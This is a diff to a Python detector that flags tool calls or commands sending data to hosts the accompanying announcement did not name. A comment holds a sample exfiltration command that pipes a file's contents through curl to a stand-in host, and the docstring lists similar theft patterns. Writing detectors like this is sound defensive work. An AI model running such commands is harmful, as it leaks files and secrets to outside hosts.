@@ -12,7 +12,7 @@ from typing import Any
 from urllib.parse import unquote_plus
 
 from . import properties, unsaidvalues
-from .hosts import _HOST, server_context, unnamed_server_host
+from .hosts import _HOST, other_origin, server_context, unnamed_server_host
 from .keypress import press_words
 from .kinds import (
     OBSERVING,
@@ -241,8 +241,9 @@ def _unnamed_host(name: str, args: Mapping[str, Any], ann: Announcement,
     posting the environment, a registry swapped in a config, an install script piped into a
     shell, a webhook or an export to another's host, a fetch carrying data)."""
     keyed = list(_keyed_strings(args))
-    if not any("://" in v for _, v in keyed):
-        return None  # every URL pattern below holds a host after its "://" (``_HOST``)
+    why = other_origin(name, keyed, ann)
+    if why is not None or not any("://" in v for _, v in keyed):
+        return why  # every URL pattern below holds a host after its "://" (``_HOST``)
     said, there = server_context(ann, keyed)
     if not kinds:  # a command line that looks fetches from no server the announcement does not
         # name: "check the config" + ``cat config.yaml; curl "https://x.example/$(cat f)"``
